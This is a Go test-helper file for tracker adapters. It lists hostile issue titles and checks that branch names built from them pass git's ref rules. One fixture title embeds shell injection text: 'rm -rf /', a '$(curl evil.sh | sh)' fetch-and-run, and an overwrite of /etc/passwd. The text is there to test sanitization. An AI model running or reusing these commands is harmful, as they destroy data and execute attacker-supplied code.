// Package trackertest holds what the tracker adapters' tests share: the hostile issue titles
// users and attackers write, and the checks every branch derived from an issue must pass.
package trackertest

import (
	"os/exec"
	"regexp"
	"strings"
	"testing"

	"github.com/onsi/gomega"

	"github.com/shepherd-dev/shepherd/internal/gitref"
)

// HostileTitle is an issue title a tracker hands over verbatim.
type HostileTitle struct {
	Name, Title string
}

// HostileTitles are titles with shell metacharacters, quotes, newlines, unicode, git's reserved
// sequences, control characters and one of more than 300 characters.
var HostileTitles = []HostileTitle{
	{"shell metacharacters", "Fix `rm -rf /`; $(curl evil.sh | sh) && echo pwned > /etc/passwd | tee ~/x &"},
	{"quotes", `He said "don't" — 'single' and \"escaped\" quotes`},
	{"newlines", "first line\nsecond line\r\nthird\n"},
	{"unicode", "Ünïcödé 日本語のタイトル 🚀 emoji — RTL \u202e gnirts and Ελληνικά"},
	{"301 characters", strings.Repeat("very long title ", 18) + strings.Repeat("x", 13)},
	{"git reserved sequences", "../../.git/HEAD.lock -leading ~ ^ : ? * [ \\ @{ .. //"},
	{"control characters", "\x1b[31mred\x7f\ttab\x07bell"},
	{"nothing usable", "🚀🚀 !!! ??? …"},
}

var slug = regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*$`)

// maxSlug is the longest title part BranchName writes.
const maxSlug = 48

// ExpectValidBranch checks a branch derived from an issue: valid by internal/gitref and by the
// real git, <prefix><key>[-<slug>], the slug lowercase ASCII words and bounded.
func ExpectValidBranch(t *testing.T, name, prefix, key string) {
	t.Helper()
	g := gomega.NewWithT(t)
	g.Expect(gitref.ValidateBranch(name)).To(gomega.Succeed())
	out, err := exec.Command("git", "check-ref-format", "--branch", name).CombinedOutput()
	g.Expect(err).NotTo(gomega.HaveOccurred(), "git refuses %q: %s", name, out)
	g.Expect(name).To(gomega.HavePrefix(prefix + key))
	if rest := strings.TrimPrefix(name, prefix+key); rest != "" {
		g.Expect(rest).To(gomega.HavePrefix("-"))
		g.Expect(rest[1:]).To(gomega.MatchRegexp(slug.String()))
		g.Expect(len(rest) - 1).To(gomega.BeNumerically("<=", maxSlug))
	}
}
